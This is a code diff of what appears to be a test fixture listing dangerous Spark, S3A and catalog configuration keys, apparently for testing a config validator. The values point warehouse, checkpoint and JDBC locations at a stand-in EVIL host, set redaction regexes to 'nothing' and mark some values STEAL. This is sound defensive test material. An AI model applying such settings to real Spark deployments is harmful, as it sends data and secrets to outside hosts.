@@ -17,6 +17,7 @@ _S3A = "spark.hadoop.fs.s3a"
 _S3A_KEYS = {
     "endpoint": _URL,
     "endpoint.fips": "true",
+    "endpoint.region": "cn-north-1",
     "path.style.access": "true",
     "access.key": "AKIA",
     "secret.key": "mine",
@@ -99,6 +100,7 @@ _CATALOG_KEYS = {
     "table-default.write.location-provider.impl": "com.example.Provider",
     "encryption.kms-impl": "com.example.Kms",
     "default-namespace": STEAL,
+    "glue.id": "666666666666",
     "url": f"jdbc:postgresql://{EVIL}/?socketFactory=com.example.Mine",
 }
 _OTHER_KEYS = {
@@ -143,8 +145,8 @@ _OTHER_KEYS = {
     "spark.sql.redaction.options.regex": "nothing",
     "spark.redaction.regex": "nothing",
     "spark.redaction.string.regex": "nothing",
-    "spark.sql.warehouse.dir": f"hdfs://{EVIL}:8020/w",
-    "spark.sql.streaming.checkpointLocation": f"ftp://{EVIL}/c",
+    "spark.sql.warehouse.dir": f"s3a://{EVIL}/w",
+    "spark.sql.streaming.checkpointLocation": f"s3a://{EVIL}/c",
     "spark.sql.defaultCatalog": STEAL,
     "spark.sql.session.timeZone": STEAL,
     "spark.serializer": "com.example.Serializer",
